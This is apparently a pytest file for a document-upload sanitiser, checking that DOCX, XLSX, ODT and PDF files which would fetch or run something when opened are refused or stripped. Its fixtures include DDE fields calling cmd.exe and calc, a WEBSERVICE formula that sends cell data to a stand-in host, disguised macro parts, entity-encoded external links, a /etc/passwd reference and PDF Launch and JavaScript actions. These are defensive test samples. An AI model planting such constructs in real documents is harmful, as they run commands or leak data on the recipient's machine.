"""Documents that, opened in an office, would run or fetch something: written so that no plain search finds it."""

from __future__ import annotations

import io
from typing import TYPE_CHECKING

import pikepdf
import pytest

from app.domain.errors import InvalidError
from app.formats import document_kind as kinds
from app.formats import office_clean, office_reach, pdf_clean
from app.formats.document_clean import without_metadata
from tests.factories import uploads
from tests.formats.test_document_clean import everything, relationships

if TYPE_CHECKING:
    from collections.abc import Mapping

_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
_BODY = "word/_rels/document.xml.rels"
_VBA = "application/vnd.ms-office.vbaProject"


def row(kind: str, target: str, *, mode: str = 'TargetMode="External"', tag: str = "Relationship") -> bytes:
    """A list with one relationship, opened and closed by tags of their own."""
    space = f' xmlns:{tag.partition(":")[0]}="r"' if ":" in tag else ""
    whole = f'<{tag} Id="r1" Type="{_KIND}/{kind}" {mode} Target="{target}"></{tag}>'
    return f"<Relationships{space}>{whole}</Relationships>".encode()


def field(*instructions: str) -> bytes:
    """A paragraph with a field whose instruction lies in several runs, as word processors split it."""
    runs = "".join(f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in instructions)
    begun, ended = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return f"<w:document {_W}><w:body><w:p>{begun}{runs}{ended}</w:p></w:body></w:document>".encode()


def types(extension: str, kind: str) -> bytes:
    """A list of contents of a text document that calls every part of one ending something else."""
    main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    return (
        f'<Types xmlns="{_TYPES}"><Default Extension="xml" ContentType="application/xml"/>'
        f'<Default Extension="{extension}" ContentType="{kind}"></Default>'
        f'<Override PartName="/word/document.xml" ContentType="{main}"/></Types>'
    ).encode()


REACHING: dict[str, dict[str, bytes]] = {
    "a picture, in tags of its own": {_BODY: row("image", "https://e.org/pixel.png")},
    "a template, said in numbers": {
        "word/_rels/settings.xml.rels": row("attachedTemplate", "http://e.org/t", mode='TargetMode="&#69;xternal"'),
    },
    "a picture, under another prefix": {_BODY: row("image", "https://e.org/p.png", tag="a-b:Relationship")},
    "a picture beside a remark": {
        _BODY: b'<Relationships><!-- <Relationship Id="r2"/> --><Relationship Id="r1" Type="t/image" '
        b'TargetMode="&#x45;xternal" Target="//e.org/p.png"></Relationship></Relationships>',
    },
    "a share, without saying that it is elsewhere": {_BODY: row("image", "\\\\e.org\\share\\p.png", mode="")},
    "macros under another name": {_BODY: row("vbaProject", "theme.bin", mode=""), "word/theme.gif": b"\xd0\xcf\x11"},
    "a whole page": {_BODY: row("aFChunk", "page.mht", mode="")},
    "an add-in": {"_rels/.rels": row("webextensiontaskpanes", "word/panes.xml", mode="")},
    "a command": {"word/document.xml": field("DDE", "AUTO c:\\\\windows\\\\system32\\\\cmd.exe")},
    "a picture in a field": {"word/document.xml": field(' include&#80;icture "https://e.org/p.png" \\d')},
    "a picture in a short field": {
        "word/header1.xml": f"<w:hdr {_W}><w:fldSimple w:instr=' INCLUDETEXT \"\\\\e.org\\t.docx\"'/></w:hdr>".encode(),
    },
    "a drawing of older kind": {
        "word/header1.xml": b'<a xmlns:v="urn:v"><v:imagedata src="&#104;ttps://e.org/p.png"/></a>',
    },
    "letters to many": {"word/a.xml": f'<w:settings {_W}><w:connectString w:val="DSN=x"/></w:settings>'.encode()},
    "an object with another name": {"word/stuff/o.bin": b"\xd0\xcf\x11\xe0" + bytes(100)},
    "a letter inside": {"word/stuff/o.rtf": b"{\\rtf1\\object}"},
    "a part that only looks like a picture": {
        "[Content_Types].xml": types("gif", "application/vnd.ms-word.header+xml"),
        "word/header1.gif": field("DDEAUTO x"),
    },
    "macros that the list of contents names": {"[Content_Types].xml": types("bin", _VBA.replace("vba", "&#118;ba"))},
}  # fmt: skip


def refuses(kind: kinds.DocumentKind, data: bytes) -> bool:
    """Whether it is refused with a remedy; taken apart here and not in a child, which would take a second each."""
    with pytest.raises(ValueError, match="Save it"):
        office_clean.clean(kind.endings[0], data)
    return True


@pytest.mark.parametrize("case", REACHING)
@pytest.mark.attack("UP-06")
def test_a_text_that_runs_or_fetches_anything_is_refused(case: str) -> None:
    assert refuses(kinds.DOCX, uploads.office("docx", REACHING[case]))


@pytest.mark.attack("UP-06")
def test_who_sends_such_a_text_is_told_at_the_field() -> None:
    with pytest.raises(InvalidError) as refused:
        without_metadata(kinds.DOCX, uploads.office("docx", REACHING["a command"]))
    (fault,) = refused.value.faults
    assert (fault.field, fault.message) == ("file", office_reach.FETCHES)


def sheet(formula: str) -> bytes:
    """A sheet with one formula."""
    return f'<worksheet xmlns="x"><sheetData><row><c><f>{formula}</f></c></row></sheetData></worksheet>'.encode()


TABLES: dict[str, dict[str, bytes]] = {
    "a formula that asks": {"xl/worksheets/sheet1.xml": sheet('_xlfn.WEBSERVICE("http://e.org/"&amp;A1)')},
    "a formula that draws": {"xl/worksheets/sheet1.xml": sheet('1+i&#109;age ("https://e.org/p.png")')},
    "a command": {
        "xl/externalLinks/externalLink1.xml": b'<x:externalLink xmlns:x="x"><x:ddeLink ddeService="cmd" '
        b'ddeTopic="/C calc"/></x:externalLink>',
    },
    "a database": {"xl/connections.xml": b'<connections><connection><dbPr connection="x"/></connection></connections>'},
    "a page": {"xl/connections.xml": b'<connections><connection><webPr url="http://e.org"/></connection></connections>'},
}  # fmt: skip


@pytest.mark.parametrize("case", TABLES)
@pytest.mark.attack("UP-06")
def test_a_table_that_runs_or_fetches_anything_is_refused(case: str) -> None:
    assert refuses(kinds.XLSX, uploads.office("xlsx", TABLES[case]))


_OPEN = "urn:oasis:names:tc:opendocument:xmlns"
_ODF = (
    f'xmlns:o="{_OPEN}:office:1.0" xmlns:d="{_OPEN}:drawing:1.0" xmlns:t="{_OPEN}:text:1.0" '
    f'xmlns:s="{_OPEN}:script:1.0" xmlns:b="{_OPEN}:table:1.0" xmlns:l="http://www.w3.org/1999/xlink"'
)
OPEN_TEXTS = {
    "a picture under another prefix": '<d:image l:href="https://e.org/p.png"/>',
    "a picture behind a bracket": '<d:image d:name="a &gt; b >" l:href="https://e.org/p.png"/>',
    "a picture, said in numbers": '<d:image l:href="&#104;ttps://e.org/p.png"/>',
    "a picture on a share": '<d:image l:href="//e.org/p.png"/>',
    "a picture on this disk": '<d:image l:href="/etc/passwd"/>',
    "a section of elsewhere": '<t:section-source l:href="https://e.org/t.odt"/>',
    "a background": '<x l:href="../../p.png"/>',
    "a script that is there already": '<s:event-listener s:event-name="dom:load" l:href="vnd.sun.star.script:a.py$b"/>',
    "a link to a script": '<t:a l:href="vnd.sun.star.script:a.py$b?language=Python">x</t:a>',
    "a command": '<t:dde-connection-decl o:dde-application="cmd" o:dde-topic="/C calc"/>',
    "a macro to press": "<t:execute-macro t:name='a'/>",
    "a formula that asks": "<b:table-cell b:formula='of:=WEBSERVICE(&quot;http://e.org&quot;)'/>",
}


def open_text(inside: str) -> bytes:
    """A text document with this in its body."""
    content = f"<o:document-content {_ODF}><o:scripts/><o:body>{inside}</o:body></o:document-content>"
    return uploads.packed({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": content.encode()})


@pytest.mark.parametrize("case", OPEN_TEXTS)
@pytest.mark.attack("UP-06")
def test_an_open_text_that_runs_or_fetches_anything_is_refused(case: str) -> None:
    assert refuses(kinds.ODT, open_text(OPEN_TEXTS[case]))


def test_what_ordinary_documents_hold_stays() -> None:
    inside = (
        '<t:a l:href="https://e.org/a?b=1&amp;c=2">x</t:a><t:a l:href="#part|outline">x</t:a>'
        '<d:image l:href="Pictures/1.png"/><d:object l:href="./Object 1"/><t:a l:href="mailto:a@e.org">x</t:a>'
    )
    assert b"b=1&amp;c=2" in everything(office_clean.clean("odt", open_text(inside)))
    ordinary: Mapping[str, bytes] = {
        _BODY: relationships("hyperlink", "https://e.org/a?b=1&amp;c=2"),
        "word/_rels/header1.xml.rels": relationships("image", "../media/a.png").replace(b'TargetMode="External"', b""),
        "word/header1.xml": field(" PAGE \\* MERGEFORMAT ").replace(b"document", b"hdr"),
        "word/fonts/font1.odttf": bytes(range(60)),
        "word/printerSettings/printerSettings1.bin": b"A printer",
    }
    clean = everything(office_clean.clean("docx", uploads.office("docx", ordinary)))
    assert b"https://e.org/a?b=1&amp;c=2" in clean
    assert b"PAGE" in clean
    numbers = sheet('SUM(A1:A9)+HYPERLINK("https://e.org")+MYIMAGE')
    assert b"SUM(A1:A9)" in everything(
        office_clean.clean("xlsx", uploads.office("xlsx", {"xl/worksheets/sheet1.xml": numbers}))
    )


def reacting(**values: object) -> bytes:
    """A PDF whose page reacts to being opened."""
    with pikepdf.new() as made:
        page = made.add_blank_page()
        script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
        page.obj["/AA"] = pikepdf.Dictionary({"/O": script, **values})
        written = io.BytesIO()
        made.save(written)
    return written.getvalue()


@pytest.mark.parametrize("kind", ["/Font", "/Whatever"])
@pytest.mark.attack("UP-06")
def test_a_page_that_reacts_loses_that_though_it_is_called_a_font(kind: str) -> None:
    for data in (reacting(**{"/Type": pikepdf.Name(kind)}), reacting(**{"/Subtype": pikepdf.Name(kind)})):
        clean = everything(pdf_clean.clean(data))
        assert b"app.alert" not in clean
        assert b"JavaScript" not in clean


@pytest.mark.attack("UP-06")
def test_a_pdf_starts_nothing_wherever_the_action_lies() -> None:
    with pikepdf.new() as made:
        page = made.add_blank_page()
        harmful = [
            pikepdf.Dictionary(S=pikepdf.Name(name), F="cmd.exe", JS="app.alert(1)", URI="https://e.org")
            for name in ("/JavaScript", "/Launch", "/GoToR", "/GoToE", "/SubmitForm", "/ImportData", "/Rendition")
        ]
        page.obj["/Odd"] = pikepdf.Array(harmful)
        page.obj["/Contents"] = pikepdf.Stream(made, b"", F="https://e.org/page", Ref=pikepdf.Dictionary(F="other.pdf"))
        written = io.BytesIO()
        made.save(written)
    clean = everything(pdf_clean.clean(written.getvalue()))
    for mark in (b"app.alert", b"cmd.exe", b"e.org", b"other.pdf", b"Launch", b"JavaScript"):
        assert mark not in clean
